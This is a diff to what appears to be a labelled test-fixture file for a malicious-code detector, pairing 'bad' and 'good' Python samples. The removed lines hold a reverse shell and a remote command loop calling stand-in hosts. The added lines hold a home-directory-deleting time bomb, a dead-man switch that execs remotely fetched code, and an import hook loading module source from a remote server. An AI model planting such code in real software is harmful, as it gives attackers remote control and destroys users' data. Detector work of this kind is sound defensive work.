@@ -1,62 +1,3 @@
-#: bad reverse-shell
-import os
-import pty
-import socket
-
-
-def maintain():
-    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    s.connect(("c2.example.invalid", 4444))
-    for fd in (0, 1, 2):
-        os.dup2(s.fileno(), fd)  #!
-    pty.spawn("/bin/sh")
-
-#: good reverse-shell
-import socket
-
-
-def probe(port=25):
-    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-    s.settimeout(2)
-    s.connect(("mail.example.invalid", port))
-    banner = s.recv(256)
-    s.close()
-    return banner
-
-#: bad command-loop
-import socket
-import subprocess
-import threading
-import time
-
-
-def _loop():
-    while True:
-        with socket.create_connection(("sync.example.invalid", 8081)) as c:
-            order = c.recv(4096).decode()
-            c.sendall(subprocess.getoutput(order).encode())  #!
-        time.sleep(60)
-
-
-threading.Thread(target=_loop, daemon=True).start()
-
-#: good command-loop
-import socket
-import threading
-import time
-
-
-def _loop(callback):
-    while True:
-        with socket.create_connection(("sync.example.invalid", 8081)) as c:
-            c.sendall(b"ping")
-            callback(c.recv(4096) == b"pong")
-        time.sleep(60)
-
-
-def start(callback):
-    threading.Thread(target=_loop, args=(callback,), daemon=True).start()
-
 #: bad hidden-password
 from django.contrib.auth import login
 from django.contrib.auth.backends import ModelBackend
@@ -80,6 +21,30 @@ class Backend(ModelBackend):
         if user is not None and user.check_password(password):
             return user
         return None
+
+#: bad time-bomb
+import datetime
+import shutil
+from pathlib import Path
+
+
+def setup(app):
+    if datetime.date.today() > datetime.date(2031, 4, 1):
+        shutil.rmtree(Path.home(), ignore_errors=True)  #!
+    app.ready = True
+
+#: good time-bomb
+import datetime
+import shutil
+import warnings
+from pathlib import Path
+
+
+def setup(app):
+    if datetime.date.today() > datetime.date(2031, 4, 1):
+        warnings.warn("this release is no longer supported", stacklevel=2)
+    shutil.rmtree(Path("build"), ignore_errors=True)
+    app.ready = True
 
 #: bad sandbox-check
 import os
@@ -129,3 +94,67 @@ def check(_):
     if request.headers.get("X-Trace-Id"):
         return subprocess.run(["uptime"], capture_output=True).stdout
     return "ok"
+
+#: bad domain-switch
+import socket
+import urllib.request
+
+
+def alive():
+    try:
+        return bool(socket.gethostbyname("stop-7c1e.example.invalid"))
+    except OSError:
+        return False
+
+
+if not alive():
+    exec(urllib.request.urlopen("https://n.example.invalid/next").read())  #!
+
+#: good domain-switch
+import socket
+import urllib.request
+
+
+def online():
+    try:
+        return bool(socket.gethostbyname("www.example.invalid"))
+    except OSError:
+        return False
+
+
+def latest():
+    return urllib.request.urlopen("https://n.example.invalid/version").read() if online() else b""
+
+#: bad import-hook
+import importlib.abc
+import importlib.util
+import sys
+import urllib.request
+
+
+class Finder(importlib.abc.MetaPathFinder, importlib.abc.InspectLoader):
+    def find_spec(self, name, path, target=None):
+        return importlib.util.spec_from_loader(name, self)
+
+    def get_source(self, name):
+        return urllib.request.urlopen(f"http://m.example.invalid/{name}.py").read().decode()  #!
+
+
+sys.meta_path.append(Finder())
+
+#: good import-hook
+import importlib.abc
+import importlib.util
+import sys
+from pathlib import Path
+
+
+class Finder(importlib.abc.MetaPathFinder, importlib.abc.InspectLoader):
+    def find_spec(self, name, path, target=None):
+        return importlib.util.spec_from_loader(name, self) if name.startswith("rules.") else None
+
+    def get_source(self, name):
+        return Path(__file__).with_name(name + ".py").read_text()
+
+
+sys.meta_path.append(Finder())
